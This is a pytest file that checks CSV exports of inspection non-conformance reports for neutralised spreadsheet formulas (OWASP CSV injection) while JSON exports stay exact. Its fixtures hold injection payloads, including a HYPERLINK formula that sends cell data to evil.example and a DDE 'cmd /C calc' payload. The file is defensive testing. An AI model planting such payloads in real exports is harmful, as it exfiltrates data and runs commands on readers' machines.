"""CSV exports never carry live spreadsheet formulas (OWASP CSV injection); JSON stays exact (issue 14)."""

from __future__ import annotations

import argparse
import csv
import dataclasses
import io
import json
from pathlib import Path

import pytest
from store_factories import DEFAULTS, make_inspection

from vinspect.cli.store import register, store_location
from vinspect.store import repository as repo
from vinspect.store.db import make_engine, session_scope
from vinspect.store.export import ExportFormat, export_ncrs, neutralise
from vinspect.store.migrations import upgrade
from vinspect.store.ncr import DispositionCode, DispositionInput, NcrFilter, ReviewDecision, ReviewInput, Role

REASON = '=HYPERLINK("http://evil.example/?d="&B2,"open")'
NOTES = "+SUM(1;2)"
JUSTIFICATION = "@SUM(1+1)*cmd|' /C calc'!A0"
PART = "=1+1"


@pytest.fixture
def data_dir(tmp_path: Path) -> Path:
    directory = tmp_path / "vinspect-data"
    directory.mkdir()
    engine = make_engine(store_location(directory, None)[1])
    upgrade(engine)
    inspection = make_inspection(1)
    assert inspection.frame is not None
    inspection = dataclasses.replace(inspection, frame=dataclasses.replace(inspection.frame, part_id=PART))
    with session_scope(engine) as session:
        ncr = repo.open_ncr(inspection, session=session, defaults=DEFAULTS).ncr_uuid
        rita = repo.create_user(
            "rita",
            session=session,
            display_name="Rita R",
            role=Role.REVIEWER,
            password_hash="h",
            actor="system:bootstrap",
        ).id
        quinn = repo.create_user(
            "quinn",
            session=session,
            display_name="-Quinn",
            role=Role.QUALITY_ENGINEER,
            password_hash="h",
            actor="system:bootstrap",
        ).id
        repo.claim_ncr(ncr, session=session, user_id=rita)
        repo.add_review(
            ncr,
            session=session,
            review=ReviewInput(
                user_id=rita,
                decision=ReviewDecision.CONFIRMED_DEFECT,
                reason=REASON,
                investigation_notes=NOTES,
                investigation_required=True,
            ),
        )
        repo.add_disposition(
            ncr,
            session=session,
            disposition=DispositionInput(
                user_id=quinn, code=DispositionCode.USE_AS_IS, quantity=1, justification=JUSTIFICATION
            ),
        )
    engine.dispose()
    return directory


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def _formula_cells(rows: list[dict[str, str]]) -> list[tuple[str, str]]:
    return [
        (k, v)
        for row in rows
        for k, v in row.items()
        if v[:1] in ("=", "+", "@", "\t", "\r") or (v[:1] == "-" and not _number(v))
    ]


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_neutralise_follows_owasp() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert neutralise(f"{start}x") == f"'{start}x"
    assert neutralise("plain") == "plain" and neutralise("") == ""


def test_csv_cells_are_neutralised_and_json_stays_exact(data_dir: Path) -> None:
    engine = make_engine(store_location(data_dir, None)[1])
    out = io.StringIO()
    with session_scope(engine, readonly=True) as session:
        export_ncrs(out, session=session, fmt=ExportFormat.CSV, filters=NcrFilter())
    rows = _rows(out.getvalue())
    assert _formula_cells(rows) == []
    row = rows[0]
    assert row["review.reason"] == "'" + REASON and row["review.investigation_notes"] == "'" + NOTES
    assert row["disposition.justification"] == "'" + JUSTIFICATION and row["serial_number"] == "'" + PART
    jsonl = io.StringIO()
    with session_scope(engine, readonly=True) as session:
        export_ncrs(jsonl, session=session, fmt=ExportFormat.JSONL, filters=NcrFilter())
    doc = json.loads(jsonl.getvalue().splitlines()[0])
    assert doc["review"]["reason"] == REASON and doc["serial_number"] == PART
    assert doc["disposition"]["justification"] == JUSTIFICATION
    assert {s["printed_name"] for s in doc["signatures"]} == {"Rita R", "-Quinn"}
    engine.dispose()


def test_cli_csv_export_is_neutralised(data_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    parser = argparse.ArgumentParser(prog="vinspect")
    register(parser.add_subparsers(dest="command", required=True))
    dest = tmp_path / "ncrs.csv"
    args = parser.parse_args(["ncr", "export", "--data-dir", str(data_dir), "--format", "csv", "--out", str(dest)])
    assert args.handler(args) == 0
    rows = _rows(dest.read_text(encoding="utf-8"))
    assert _formula_cells(rows) == [] and rows[0]["review.reason"] == "'" + REASON
